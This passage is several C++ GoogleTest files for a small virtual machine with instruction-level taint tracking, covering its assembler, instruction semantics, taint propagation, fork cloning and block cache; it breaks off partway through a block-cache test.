#if defined(__GNUC__) || defined(__clang__)
    EXPECT_TRUE(Machine::threadedDispatch());
#else
    EXPECT_FALSE(Machine::threadedDispatch());
#endif
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
