/**
 * @file
 * Property tests for the VM.
 *
 * The central invariant: *instruction-level taint tracking must not
 * perturb architectural execution*. For a family of generated
 * programs, the final register file and touched memory must be
 * identical with tracking on and off, and identical across repeated
 * runs (determinism).
 */

#include <gtest/gtest.h>

#include "taint/TagSet.hh"
#include "vm/Asm.hh"
#include "vm/Machine.hh"

using namespace hth;
using namespace hth::vm;
using taint::TagStore;

namespace
{

/** Deterministic xorshift generator (no global RNG state). */
struct Prng
{
    uint32_t state;

    explicit Prng(uint32_t seed) : state(seed * 2654435761u + 1) {}

    uint32_t
    next()
    {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        return state;
    }

    uint32_t
    below(uint32_t n)
    {
        return next() % n;
    }
};

/** Registers safe for generated arithmetic (esp stays sane). */
const Reg GP[] = {Reg::Eax, Reg::Ebx, Reg::Ecx, Reg::Edx, Reg::Esi,
                  Reg::Edi};

/**
 * Generate a program: a data blob, a bounded loop whose body is a
 * random mix of ALU ops, loads/stores within the blob, pushes/pops
 * (balanced) and byte accesses.
 */
std::shared_ptr<const Image>
generateProgram(uint32_t seed)
{
    Prng rng(seed);
    Asm a("/prop/gen" + std::to_string(seed));
    std::vector<uint8_t> blob(64);
    for (auto &b : blob)
        b = (uint8_t)rng.next();
    a.dataBytes("blob", blob);
    a.dataSpace("scratch", 64);

    a.label("main");
    a.entry("main");
    for (Reg r : GP)
        a.movi(r, (int32_t)rng.next());

    a.movi(Reg::Ebp, 0);
    a.label("loop");
    int body = 4 + (int)rng.below(12);
    for (int i = 0; i < body; ++i) {
        Reg r1 = GP[rng.below(6)];
        Reg r2 = GP[rng.below(6)];
        switch (rng.below(10)) {
          case 0: a.add(r1, r2); break;
          case 1: a.sub(r1, r2); break;
          case 2: a.xor_(r1, r2); break;
          case 3: a.and_(r1, r2); break;
          case 4: a.or_(r1, r2); break;
          case 5: a.mul(r1, r2); break;
          case 6: a.addi(r1, (int32_t)rng.below(100)); break;
          case 7: {
            // Bounded load from the blob.
            a.movi(r1, (int32_t)(rng.below(15) * 4));
            a.leaSym(r2, "blob");
            a.add(r2, r1);
            a.load(r1, r2, 0);
            break;
          }
          case 8: {
            // Bounded store to scratch.
            a.movi(r1, (int32_t)(rng.below(15) * 4));
            a.leaSym(r2, "scratch");
            a.add(r2, r1);
            Reg src = GP[rng.below(6)];
            if (src != r2)
                a.store(r2, 0, src);
            break;
          }
          case 9:
            a.push(r1);
            a.pop(r2);
            break;
        }
    }
    a.addi(Reg::Ebp, 1);
    a.cmpi(Reg::Ebp, 8);
    a.jl("loop");
    a.halt();
    return a.build();
}

struct FinalState
{
    std::array<uint32_t, NUM_REGS> regs;
    std::vector<uint8_t> scratch;
    uint64_t instructions;

    bool operator==(const FinalState &) const = default;
};

FinalState
execute(std::shared_ptr<const Image> image, bool taint)
{
    TagStore tags;
    Machine m(tags);
    m.setTaintTracking(taint);
    const LoadedImage &li = m.loadImage(image, 1);
    m.setEip(li.base + image->entry);
    for (int i = 0; i < 200000; ++i) {
        StepResult r = m.step();
        if (r.kind == StepKind::Halted)
            break;
        EXPECT_EQ(r.kind, StepKind::Ok);
    }
    EXPECT_TRUE(m.halted());

    FinalState out;
    for (size_t i = 0; i < NUM_REGS; ++i)
        out.regs[i] = m.reg((Reg)i);
    uint32_t scratch = li.base + image->symbol("scratch");
    out.scratch.resize(64);
    m.mem().readBytes(scratch, out.scratch.data(), 64);
    out.instructions = m.stats().instructions;
    return out;
}

} // namespace

class VmPropertyTest : public ::testing::TestWithParam<uint32_t>
{
};

TEST_P(VmPropertyTest, TaintDoesNotPerturbExecution)
{
    auto image = generateProgram(GetParam());
    FinalState plain = execute(image, false);
    FinalState tracked = execute(image, true);
    EXPECT_EQ(plain, tracked);
}

TEST_P(VmPropertyTest, ExecutionIsDeterministic)
{
    auto image = generateProgram(GetParam());
    FinalState first = execute(image, true);
    FinalState second = execute(image, true);
    EXPECT_EQ(first, second);
}

TEST_P(VmPropertyTest, EspBalancedAtHalt)
{
    auto image = generateProgram(GetParam());
    TagStore tags;
    Machine m(tags);
    const LoadedImage &li = m.loadImage(image, 1);
    uint32_t esp0 = m.reg(Reg::Esp);
    m.setEip(li.base + image->entry);
    while (!m.halted())
        m.step();
    EXPECT_EQ(m.reg(Reg::Esp), esp0);
}

INSTANTIATE_TEST_SUITE_P(Seeds, VmPropertyTest,
                         ::testing::Range(1u, 25u));

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
