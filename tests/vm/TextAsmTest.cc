/**
 * @file
 * Tests for the text assembler: full-program round trips through
 * the machine, every operand form, directives, and error reporting
 * with line numbers.
 */

#include <gtest/gtest.h>

#include "support/Logging.hh"
#include "taint/TagSet.hh"
#include "vm/Machine.hh"
#include "vm/TextAsm.hh"

using namespace hth;
using namespace hth::vm;

namespace
{

/** Assemble, load, run to halt; return the machine. */
taint::TagStore g_tags;

Machine
runProgram(const std::string &source)
{
    auto image = assemble("/t/text.exe", source);
    Machine m(g_tags);
    const LoadedImage &li = m.loadImage(image, 1);
    m.setEip(li.base + image->entry);
    for (int i = 0; i < 100000 && !m.halted(); ++i)
        m.step();
    EXPECT_TRUE(m.halted());
    return m;
}

} // namespace

TEST(TextAsm, ArithmeticProgram)
{
    Machine m = runProgram(R"(
        ; compute 6 * 7 into eax
        .entry main
        main:
            movi eax, 6
            movi ebx, 7
            mul  eax, ebx
            halt
    )");
    EXPECT_EQ(m.reg(Reg::Eax), 42u);
}

TEST(TextAsm, DataAndMemoryOperands)
{
    Machine m = runProgram(R"(
        .data  msg  "AB"
        .space buf  8
        .entry main
        main:
            lea   esi, msg
            loadb eax, [esi]        ; 'A'
            loadb ebx, [esi+1]      ; 'B'
            lea   edi, buf
            storeb [edi], ebx
            storeb [edi+1], eax
            load  ecx, [edi+0]
            halt
    )");
    EXPECT_EQ(m.reg(Reg::Eax), (uint32_t)'A');
    EXPECT_EQ(m.reg(Reg::Ebx), (uint32_t)'B');
    EXPECT_EQ(m.reg(Reg::Ecx) & 0xffff,
              (uint32_t)'B' | ((uint32_t)'A' << 8));
}

TEST(TextAsm, LoopsAndCalls)
{
    Machine m = runProgram(R"(
        .entry main
        main:
            movi ecx, 0
            movi eax, 0
        loop:
            call bump
            addi ecx, 1
            cmpi ecx, 5
            jl   loop
            halt
        bump:
            addi eax, 10
            ret
    )");
    EXPECT_EQ(m.reg(Reg::Eax), 50u);
}

TEST(TextAsm, StackOps)
{
    Machine m = runProgram(R"(
        .data msg "x"
        .entry main
        main:
            pushi 3
            movi  eax, 4
            push  eax
            pushs msg
            pop   ebx       ; address of msg
            pop   ecx       ; 4
            pop   edx       ; 3
            halt
    )");
    EXPECT_EQ(m.reg(Reg::Ecx), 4u);
    EXPECT_EQ(m.reg(Reg::Edx), 3u);
    EXPECT_NE(m.reg(Reg::Ebx), 0u);
}

TEST(TextAsm, CharAndHexImmediates)
{
    Machine m = runProgram(R"(
        .entry main
        main:
            movi eax, 'z'
            movi ebx, 0xff
            movi ecx, -2
            halt
    )");
    EXPECT_EQ(m.reg(Reg::Eax), (uint32_t)'z');
    EXPECT_EQ(m.reg(Reg::Ebx), 0xffu);
    EXPECT_EQ(m.reg(Reg::Ecx), (uint32_t)-2);
}

TEST(TextAsm, BytesDirectiveAndEscapes)
{
    auto image = assemble("/t/b.exe", R"(
        .bytes tbl 1 2 0x10 'A'
        .data  esc "a\nb\0c"
        .entry main
        main:
            halt
    )");
    // tbl: 4 raw bytes; esc: 5 chars + NUL.
    EXPECT_EQ(image->data.size(), 4u + 6u);
    EXPECT_EQ(image->data[0], 1);
    EXPECT_EQ(image->data[3], (uint8_t)'A');
    EXPECT_EQ(image->data[5], (uint8_t)'\n');
}

TEST(TextAsm, CommentInsideStringPreserved)
{
    auto image = assemble("/t/c.exe", R"(
        .data msg "semi;colon"   ; this is the comment
        .entry main
        main:
            halt
    )");
    std::string data((const char *)image->data.data(), 10);
    EXPECT_EQ(data, "semi;colon");
}

TEST(TextAsm, ConditionalBranches)
{
    Machine m = runProgram(R"(
        .entry main
        main:
            movi eax, 9
            cmpi eax, 9
            jz   eq
            movi ebx, 0
            halt
        eq:
            cmpi eax, 10
            jnz  ne
            movi ebx, 1
            halt
        ne:
            cmpi eax, 100
            jge  huge
            movi ebx, 42
            halt
        huge:
            movi ebx, 2
            halt
    )");
    EXPECT_EQ(m.reg(Reg::Ebx), 42u);
}

TEST(TextAsm, NativeAndImports)
{
    auto so = assemble("/lib/x.so", R"(
        native helper
    )", true);
    EXPECT_EQ(so->natives.size(), 1u);
    EXPECT_TRUE(so->symbols.count("helper"));

    auto app = assemble("/t/imp.exe", R"(
        .entry main
        main:
            callimport helper
            halt
    )");
    EXPECT_EQ(app->imports.size(), 1u);
    EXPECT_EQ(app->imports[0], "helper");
}

TEST(TextAsm, ErrorsCarryLineNumbers)
{
    auto expect_error = [](const std::string &src,
                           const std::string &needle) {
        try {
            assemble("/t/err.exe", src);
            FAIL() << "expected FatalError for: " << src;
        } catch (const FatalError &e) {
            EXPECT_NE(std::string(e.what()).find(needle),
                      std::string::npos)
                << e.what();
        }
    };
    expect_error("\n\n badop eax, ebx\nmain:\n halt",
                 "line 3");
    expect_error(" movi eax\nmain:\n halt", "takes 2 operand");
    // (argument evaluation order decides which operand is
    // diagnosed first; both are wrong here)
    expect_error(" movi 5, eax\nmain:\n halt", "expected ");
    expect_error(" load eax, ebx\nmain:\n halt",
                 "expected memory operand");
    expect_error(".space buf\nmain:\n halt", ".space takes");
    expect_error(".frobnicate x\nmain:\n halt", "unknown directive");
    expect_error(" jmp nowhere\nmain:\n halt", "undefined symbol");
}

TEST(TextAsm, EntryDefaultsToOffsetZero)
{
    auto image = assemble("/t/noentry.exe", "start:\n  halt\n");
    EXPECT_EQ(image->entry, 0u);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
