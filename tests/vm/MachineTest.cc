/**
 * @file
 * Unit tests for the HVM: assembler, image loading, instruction
 * semantics (parameterised ALU sweep), control flow, stack, taint
 * propagation and instrumentation callbacks.
 */

#include <gtest/gtest.h>

#include "support/Logging.hh"
#include "taint/TagSet.hh"
#include "vm/Asm.hh"
#include "vm/Machine.hh"

using namespace hth;
using namespace hth::vm;
using taint::SourceType;
using taint::TagSetId;
using taint::TagStore;

namespace
{

/** Run a freshly loaded machine until halt/fault; count steps. */
int
runToHalt(Machine &m, int max_steps = 100000)
{
    for (int i = 0; i < max_steps; ++i) {
        StepResult r = m.step();
        if (r.kind == StepKind::Halted || r.kind == StepKind::Fault)
            return i;
        EXPECT_NE(r.kind, StepKind::Native) << "unexpected native";
    }
    ADD_FAILURE() << "guest did not halt";
    return max_steps;
}

/** Load @p image into a fresh machine positioned at its entry. */
void
loadAt(Machine &m, std::shared_ptr<const Image> image,
       taint::ResourceId res = 1)
{
    const LoadedImage &li = m.loadImage(std::move(image), res);
    m.setEip(li.base + li.image->entry);
}

} // namespace

//
// Assembler
//

TEST(Asm, BuildsSymbolsAndSections)
{
    Asm a("/t/prog");
    a.dataString("msg", "hi");
    a.dataSpace("buf", 16);
    a.label("start");
    a.entry("start");
    a.nop();
    a.halt();
    auto img = a.build();

    EXPECT_EQ(img->path, "/t/prog");
    EXPECT_EQ(img->text.size(), 2u);
    EXPECT_EQ(img->data.size(), 3u); // "hi\0"
    EXPECT_EQ(img->bssSize, 16u);
    EXPECT_EQ(img->symbol("start"), 0u);
    EXPECT_EQ(img->symbol("msg"), img->dataOffset());
    EXPECT_EQ(img->symbol("buf"), img->bssOffset());
    EXPECT_EQ(img->entry, 0u);
    EXPECT_THROW(img->symbol("missing"), FatalError);
}

TEST(Asm, ForwardReferencesResolve)
{
    Asm a("/t/fwd");
    a.jmp("end");       // forward reference
    a.nop();
    a.label("end");
    a.halt();
    auto img = a.build();
    EXPECT_EQ(img->relocs.size(), 1u);
    EXPECT_EQ(img->symbol("end"), 2 * INSN_SIZE);
}

TEST(Asm, UndefinedLabelFailsAtBuild)
{
    Asm a("/t/bad");
    a.jmp("nowhere");
    EXPECT_THROW(a.build(), FatalError);
}

TEST(Asm, DuplicateSymbolsRejected)
{
    Asm a("/t/dup");
    a.dataString("x", "1");
    EXPECT_THROW(a.dataString("x", "2"), FatalError);
    EXPECT_THROW(a.label("x"), FatalError);
    EXPECT_THROW(a.dataSpace("x", 4), FatalError);
    a.label("y");
    EXPECT_THROW(a.dataSpace("y", 4), FatalError);
}

TEST(Asm, ImportsDeduplicated)
{
    Asm a("/t/imp");
    a.callImport("strcpy");
    a.callImport("strlen");
    a.callImport("strcpy");
    a.halt();
    auto img = a.build();
    ASSERT_EQ(img->imports.size(), 2u);
    EXPECT_EQ(img->text[0].imm, 0);
    EXPECT_EQ(img->text[1].imm, 1);
    EXPECT_EQ(img->text[2].imm, 0);
}

TEST(Asm, BuildTwiceRejected)
{
    Asm a("/t/twice");
    a.halt();
    a.build();
    EXPECT_THROW(a.build(), FatalError);
}

//
// Machine: loading
//

TEST(Machine, LoadsAtConventionalBases)
{
    TagStore tags;
    Machine m(tags);

    Asm so("/lib/fake.so", true);
    so.dataString("d", "x");
    so.label("fn");
    so.ret();
    auto so_img = so.build();

    Asm app("/t/app");
    app.halt();
    auto app_img = app.build();

    const LoadedImage &lso = m.loadImage(so_img, 1);
    const LoadedImage &lapp = m.loadImage(app_img, 2);
    EXPECT_EQ(lso.base, Machine::SO_BASE);
    EXPECT_EQ(lapp.base, Machine::APP_BASE);
    EXPECT_EQ(m.appImage(), &m.images()[1]);
    EXPECT_EQ(m.findImage(lapp.base), &m.images()[1]);
    EXPECT_EQ(m.findImage(0xdead0000), nullptr);
    EXPECT_EQ(m.resolveSymbol("fn"), lso.base + so_img->symbol("fn"));
}

TEST(Machine, DataMappedAndTaggedBinary)
{
    TagStore tags;
    Machine m(tags);
    m.setTaintTracking(true);

    Asm a("/t/data");
    a.dataString("msg", "AB");
    a.dataSpace("buf", 8);
    a.halt();
    const LoadedImage &li = m.loadImage(a.build(), 7);

    uint32_t msg = li.base + li.image->symbol("msg");
    EXPECT_EQ(m.mem().read8(msg), 'A');
    EXPECT_EQ(m.mem().read8(msg + 1), 'B');
    // Data is BINARY-tagged; bss is not.
    EXPECT_TRUE(tags.contains(m.shadow().get(msg),
                              {SourceType::Binary, 7}));
    uint32_t buf = li.base + li.image->symbol("buf");
    EXPECT_EQ(m.shadow().get(buf), TagStore::EMPTY);
}

TEST(Machine, UnresolvedImportIsFatal)
{
    TagStore tags;
    Machine m(tags);
    Asm a("/t/imp2");
    a.callImport("no_such_symbol");
    a.halt();
    EXPECT_THROW(m.loadImage(a.build(), 1), FatalError);
}

TEST(Machine, FetchFaultOnUnmappedPc)
{
    TagStore tags;
    Machine m(tags);
    m.setEip(0x12345678);
    StepResult r = m.step();
    EXPECT_EQ(r.kind, StepKind::Fault);
    EXPECT_TRUE(m.halted());
}

//
// Machine: instruction semantics
//

class ExecTest : public ::testing::Test
{
  protected:
    TagStore tags;
};

TEST_F(ExecTest, MovAndLea)
{
    Machine m(tags);
    Asm a("/t/mov");
    a.movi(Reg::Eax, 42);
    a.mov(Reg::Ebx, Reg::Eax);
    a.lea(Reg::Ecx, Reg::Ebx, 8);
    a.halt();
    loadAt(m, a.build());
    runToHalt(m);
    EXPECT_EQ(m.reg(Reg::Eax), 42u);
    EXPECT_EQ(m.reg(Reg::Ebx), 42u);
    EXPECT_EQ(m.reg(Reg::Ecx), 50u);
}

TEST_F(ExecTest, LoadStoreWord)
{
    Machine m(tags);
    Asm a("/t/ls");
    a.dataSpace("slot", 4);
    a.movi(Reg::Eax, 0x11223344);
    a.leaSym(Reg::Ebx, "slot");
    a.store(Reg::Ebx, 0, Reg::Eax);
    a.load(Reg::Ecx, Reg::Ebx, 0);
    a.halt();
    loadAt(m, a.build());
    runToHalt(m);
    EXPECT_EQ(m.reg(Reg::Ecx), 0x11223344u);
}

TEST_F(ExecTest, LoadStoreByte)
{
    Machine m(tags);
    Asm a("/t/lsb");
    a.dataSpace("slot", 4);
    a.movi(Reg::Eax, 0x1234);
    a.leaSym(Reg::Ebx, "slot");
    a.storeb(Reg::Ebx, 0, Reg::Eax);    // low byte only
    a.loadb(Reg::Ecx, Reg::Ebx, 0);
    a.halt();
    loadAt(m, a.build());
    runToHalt(m);
    EXPECT_EQ(m.reg(Reg::Ecx), 0x34u);
}

TEST_F(ExecTest, PushPop)
{
    Machine m(tags);
    Asm a("/t/stack");
    a.movi(Reg::Eax, 7);
    a.push(Reg::Eax);
    a.pushi(9);
    a.pop(Reg::Ebx);
    a.pop(Reg::Ecx);
    a.halt();
    loadAt(m, a.build());
    uint32_t esp0 = m.reg(Reg::Esp);
    runToHalt(m);
    EXPECT_EQ(m.reg(Reg::Ebx), 9u);
    EXPECT_EQ(m.reg(Reg::Ecx), 7u);
    EXPECT_EQ(m.reg(Reg::Esp), esp0);
}

/** ALU operation sweep: (op, lhs, rhs, expected). */
struct AluCase
{
    Opcode op;
    uint32_t lhs, rhs, expected;
};

class AluTest : public ::testing::TestWithParam<AluCase>
{
};

TEST_P(AluTest, ComputesExpectedResult)
{
    const AluCase &c = GetParam();
    TagStore tags;
    Machine m(tags);
    Asm a("/t/alu");
    a.movi(Reg::Eax, (int32_t)c.lhs);
    a.movi(Reg::Ebx, (int32_t)c.rhs);
    switch (c.op) {
      case Opcode::Add: a.add(Reg::Eax, Reg::Ebx); break;
      case Opcode::Sub: a.sub(Reg::Eax, Reg::Ebx); break;
      case Opcode::And: a.and_(Reg::Eax, Reg::Ebx); break;
      case Opcode::Or: a.or_(Reg::Eax, Reg::Ebx); break;
      case Opcode::Xor: a.xor_(Reg::Eax, Reg::Ebx); break;
      case Opcode::Mul: a.mul(Reg::Eax, Reg::Ebx); break;
      case Opcode::Shl: a.shl(Reg::Eax, (int32_t)c.rhs); break;
      case Opcode::Shr: a.shr(Reg::Eax, (int32_t)c.rhs); break;
      case Opcode::AddI: a.addi(Reg::Eax, (int32_t)c.rhs); break;
      default: FAIL() << "unhandled op";
    }
    a.halt();
    loadAt(m, a.build());
    runToHalt(m);
    EXPECT_EQ(m.reg(Reg::Eax), c.expected)
        << opcodeName(c.op) << " " << c.lhs << "," << c.rhs;
}

INSTANTIATE_TEST_SUITE_P(
    Ops, AluTest,
    ::testing::Values(
        AluCase{Opcode::Add, 2, 3, 5},
        AluCase{Opcode::Add, 0xffffffff, 1, 0},         // wraps
        AluCase{Opcode::Sub, 10, 4, 6},
        AluCase{Opcode::Sub, 0, 1, 0xffffffff},
        AluCase{Opcode::And, 0xf0f0, 0xff00, 0xf000},
        AluCase{Opcode::Or, 0xf0f0, 0x0f0f, 0xffff},
        AluCase{Opcode::Xor, 0xff, 0x0f, 0xf0},
        AluCase{Opcode::Mul, 6, 7, 42},
        AluCase{Opcode::Mul, 0x10000, 0x10000, 0},      // wraps
        AluCase{Opcode::Shl, 1, 4, 16},
        AluCase{Opcode::Shr, 0x100, 4, 0x10},
        AluCase{Opcode::AddI, 40, 2, 42}));

TEST_F(ExecTest, ConditionalJumps)
{
    // Compute max(3, 9) with cmp/jl.
    Machine m(tags);
    Asm a("/t/jcc");
    a.movi(Reg::Eax, 3);
    a.movi(Reg::Ebx, 9);
    a.cmp(Reg::Eax, Reg::Ebx);
    a.jl("take_b");
    a.mov(Reg::Ecx, Reg::Eax);
    a.jmp("done");
    a.label("take_b");
    a.mov(Reg::Ecx, Reg::Ebx);
    a.label("done");
    a.halt();
    loadAt(m, a.build());
    runToHalt(m);
    EXPECT_EQ(m.reg(Reg::Ecx), 9u);
}

TEST_F(ExecTest, JzJnzAndJge)
{
    Machine m(tags);
    Asm a("/t/jz");
    a.movi(Reg::Ecx, 0);
    a.movi(Reg::Eax, 5);
    a.cmpi(Reg::Eax, 5);
    a.jz("was_equal");
    a.movi(Reg::Ecx, 111);
    a.halt();
    a.label("was_equal");
    a.cmpi(Reg::Eax, 9);
    a.jnz("not_nine");
    a.movi(Reg::Ecx, 222);
    a.halt();
    a.label("not_nine");
    a.cmpi(Reg::Eax, 3);
    a.jge("ge_three");
    a.movi(Reg::Ecx, 333);
    a.halt();
    a.label("ge_three");
    a.movi(Reg::Ecx, 42);
    a.halt();
    loadAt(m, a.build());
    runToHalt(m);
    EXPECT_EQ(m.reg(Reg::Ecx), 42u);
}

TEST_F(ExecTest, CallAndRet)
{
    Machine m(tags);
    Asm a("/t/call");
    a.movi(Reg::Eax, 1);
    a.call("addfive");
    a.call("addfive");
    a.halt();
    a.label("addfive");
    a.addi(Reg::Eax, 5);
    a.ret();
    loadAt(m, a.build());
    runToHalt(m);
    EXPECT_EQ(m.reg(Reg::Eax), 11u);
}

TEST_F(ExecTest, IndirectCall)
{
    Machine m(tags);
    Asm a("/t/callr");
    a.leaSym(Reg::Ebx, "target");
    a.callr(Reg::Ebx);
    a.halt();
    a.label("target");
    a.movi(Reg::Eax, 99);
    a.ret();
    loadAt(m, a.build());
    runToHalt(m);
    EXPECT_EQ(m.reg(Reg::Eax), 99u);
}

TEST_F(ExecTest, CallSymAcrossImages)
{
    TagStore store;
    Machine m(store);
    Asm so("/lib/l.so", true);
    so.label("seven");
    so.movi(Reg::Eax, 7);
    so.ret();
    m.loadImage(so.build(), 1);

    Asm app("/t/callsym");
    app.callImport("seven");
    app.halt();
    loadAt(m, app.build(), 2);
    runToHalt(m);
    EXPECT_EQ(m.reg(Reg::Eax), 7u);
}

TEST_F(ExecTest, SyscallYieldsToKernel)
{
    Machine m(tags);
    Asm a("/t/sys");
    a.movi(Reg::Eax, 20);
    a.int80();
    a.halt();
    loadAt(m, a.build());
    m.step(); // movi
    StepResult r = m.step();
    EXPECT_EQ(r.kind, StepKind::Syscall);
    EXPECT_FALSE(m.halted());
    // Execution resumes after the int80.
    r = m.step();
    EXPECT_EQ(r.kind, StepKind::Halted);
}

TEST_F(ExecTest, NativeYieldsName)
{
    Machine m(tags);
    Asm so("/lib/n.so", true);
    so.native("frobnicate");
    m.loadImage(so.build(), 1);

    Asm app("/t/native");
    app.callImport("frobnicate");
    app.halt();
    loadAt(m, app.build(), 2);
    m.step(); // callsym
    StepResult r = m.step();
    EXPECT_EQ(r.kind, StepKind::Native);
    EXPECT_EQ(r.nativeName, "frobnicate");
    // Next instruction is the routine's ret back to the app.
    EXPECT_EQ(m.step().kind, StepKind::Ok);
    EXPECT_EQ(m.step().kind, StepKind::Halted);
}

TEST_F(ExecTest, CpuidSetsRegisters)
{
    Machine m(tags);
    Asm a("/t/cpuid");
    a.cpuid();
    a.halt();
    loadAt(m, a.build());
    runToHalt(m);
    EXPECT_EQ(m.reg(Reg::Eax), 0x48544856u);
    EXPECT_NE(m.reg(Reg::Ebx), 0u);
}

//
// Taint propagation semantics (§7.3.1)
//

class TaintPropTest : public ::testing::Test
{
  protected:
    TagStore tags;
};

TEST_F(TaintPropTest, ImmediateIsBinarySource)
{
    Machine m(tags);
    m.setTaintTracking(true);
    Asm a("/t/imm");
    a.movi(Reg::Eax, 4);
    a.halt();
    loadAt(m, a.build(), 9);
    runToHalt(m);
    EXPECT_TRUE(tags.contains(m.regTag(Reg::Eax),
                              {SourceType::Binary, 9}));
}

TEST_F(TaintPropTest, MovCopiesTags)
{
    Machine m(tags);
    m.setTaintTracking(true);
    Asm a("/t/movtag");
    a.movi(Reg::Eax, 1);
    a.mov(Reg::Ebx, Reg::Eax);
    a.halt();
    loadAt(m, a.build(), 9);
    runToHalt(m);
    EXPECT_EQ(m.regTag(Reg::Ebx), m.regTag(Reg::Eax));
    EXPECT_NE(m.regTag(Reg::Ebx), TagStore::EMPTY);
}

TEST_F(TaintPropTest, AluUnionsOperands)
{
    // add %ebx,%eax: result sources = union (§7.3.1 example 3).
    Machine m(tags);
    m.setTaintTracking(true);
    Asm a("/t/alutag");
    a.dataSpace("slot", 4);
    a.movi(Reg::Eax, 1);
    a.leaSym(Reg::Esi, "slot");
    a.load(Reg::Ebx, Reg::Esi, 0);
    a.add(Reg::Eax, Reg::Ebx);
    a.halt();
    auto img = a.build();
    const LoadedImage &li = m.loadImage(img, 9);
    // Pre-tag the memory slot as FILE data.
    uint32_t slot = li.base + img->symbol("slot");
    m.shadow().setRange(slot, 4, tags.single({SourceType::File, 3}));
    m.setEip(li.base);
    runToHalt(m);
    EXPECT_TRUE(tags.contains(m.regTag(Reg::Eax),
                              {SourceType::Binary, 9}));
    EXPECT_TRUE(tags.contains(m.regTag(Reg::Eax),
                              {SourceType::File, 3}));
}

TEST_F(TaintPropTest, XorZeroIdiomClearsTags)
{
    Machine m(tags);
    m.setTaintTracking(true);
    Asm a("/t/xorz");
    a.movi(Reg::Eax, 55);            // BINARY-tagged
    a.xor_(Reg::Eax, Reg::Eax);      // zeroing idiom
    a.halt();
    loadAt(m, a.build(), 9);
    runToHalt(m);
    EXPECT_EQ(m.regTag(Reg::Eax), TagStore::EMPTY);
}

TEST_F(TaintPropTest, StoreLoadRoundTripsTags)
{
    Machine m(tags);
    m.setTaintTracking(true);
    Asm a("/t/sl");
    a.dataSpace("slot", 4);
    a.movi(Reg::Eax, 0xAB);
    a.leaSym(Reg::Esi, "slot");
    a.store(Reg::Esi, 0, Reg::Eax);
    a.movi(Reg::Ebx, 0);             // unrelated
    a.load(Reg::Ecx, Reg::Esi, 0);
    a.halt();
    loadAt(m, a.build(), 9);
    runToHalt(m);
    EXPECT_TRUE(tags.contains(m.regTag(Reg::Ecx),
                              {SourceType::Binary, 9}));
}

TEST_F(TaintPropTest, CpuidTagsHardware)
{
    Machine m(tags);
    m.setTaintTracking(true);
    Asm a("/t/cpuidtag");
    a.cpuid();
    a.halt();
    loadAt(m, a.build(), 9);
    runToHalt(m);
    for (Reg r : {Reg::Eax, Reg::Ebx, Reg::Ecx, Reg::Edx})
        EXPECT_TRUE(tags.containsType(m.regTag(r),
                                      SourceType::Hardware));
}

TEST_F(TaintPropTest, PushPopCarriesTags)
{
    Machine m(tags);
    m.setTaintTracking(true);
    Asm a("/t/pushtag");
    a.movi(Reg::Eax, 3);
    a.push(Reg::Eax);
    a.xor_(Reg::Eax, Reg::Eax);
    a.pop(Reg::Ebx);
    a.halt();
    loadAt(m, a.build(), 9);
    runToHalt(m);
    EXPECT_TRUE(tags.contains(m.regTag(Reg::Ebx),
                              {SourceType::Binary, 9}));
}

TEST_F(TaintPropTest, TrackingOffLeavesShadowEmpty)
{
    Machine m(tags);
    m.setTaintTracking(false);
    Asm a("/t/notrack");
    a.movi(Reg::Eax, 3);
    a.halt();
    loadAt(m, a.build(), 9);
    runToHalt(m);
    EXPECT_EQ(m.regTag(Reg::Eax), TagStore::EMPTY);
}

//
// Fork cloning and instrumentation
//

TEST(MachineClone, ForkIsDeep)
{
    TagStore tags;
    Machine m(tags);
    m.setTaintTracking(true);
    Asm a("/t/clone");
    a.dataSpace("slot", 4);
    a.movi(Reg::Eax, 1);
    a.halt();
    auto img = a.build();
    const LoadedImage &li = m.loadImage(img, 1);
    uint32_t slot = li.base + img->symbol("slot");
    m.mem().write32(slot, 0x1111);

    Machine child = m.cloneForFork();
    child.mem().write32(slot, 0x2222);
    child.setReg(Reg::Ebx, 5);
    EXPECT_EQ(m.mem().read32(slot), 0x1111u);
    EXPECT_EQ(child.mem().read32(slot), 0x2222u);
    EXPECT_EQ(m.reg(Reg::Ebx), 0u);
    EXPECT_EQ(child.findImage(li.base), &child.images()[0]);
}

TEST(MachineClone, ForkShadowIsIndependent)
{
    TagStore tags;
    Machine m(tags);
    m.setTaintTracking(true);
    TagSetId a = tags.single({SourceType::File, 1});
    TagSetId b = tags.single({SourceType::Socket, 2});
    m.shadow().set(0x100, a);

    Machine child = m.cloneForFork();
    EXPECT_EQ(child.shadow().get(0x100), a);
    child.shadow().set(0x100, b);
    child.shadow().set(0x104, b);
    EXPECT_EQ(m.shadow().get(0x100), a);
    EXPECT_EQ(m.shadow().get(0x104), TagStore::EMPTY);
    EXPECT_EQ(child.shadow().get(0x100), b);
}

//
// Decoded basic-block cache
//

namespace
{

/** A guest that loops @p n times: re-enters its loop block n-1
 * times, so a working block cache shows hits ≈ iterations. */
std::shared_ptr<const Image>
makeLoopImage(int n)
{
    Asm a("/t/loop");
    a.movi(Reg::Ecx, 0);
    a.label("loop");
    a.addi(Reg::Ecx, 1);
    a.cmpi(Reg::Ecx, n);
    a.jl("loop");
    a.halt();
    return a.build();
}

} // namespace

TEST(BlockCache, ReenteredBlocksHit)
{
    TagStore tags;
    Machine m(tags);
    loadAt(m, makeLoopImage(100));
    runToHalt(m);
    const MachineStats &st = m.stats();
    // Each back-edge re-entry is a cache hit; only the distinct
    // blocks (entry through first jl, loop body, halt) miss.
    EXPECT_GE(st.blockCacheHits, 98u);
    EXPECT_LE(st.blockCacheMisses, 3u);
}

TEST(BlockCache, RunBudgetMatchesStep)
{
    TagStore tags;
    Machine m(tags);
    loadAt(m, makeLoopImage(50));
    uint64_t executed = 0;
    // Drive through run() in small budgets: the cursor fast path
    // must resume mid-block without re-fetching or skipping.
    while (!m.halted()) {
        uint64_t n = 0;
        StepResult r = m.run(7, n);
        executed += n;
        ASSERT_NE(r.kind, StepKind::Fault) << r.faultReason;
    }
    EXPECT_EQ(executed, m.stats().instructions);
    EXPECT_EQ(m.reg(Reg::Ecx), 50u);
}

TEST(BlockCache, LoadImageInvalidates)
{
    TagStore tags;
    Machine m(tags);
    loadAt(m, makeLoopImage(40));

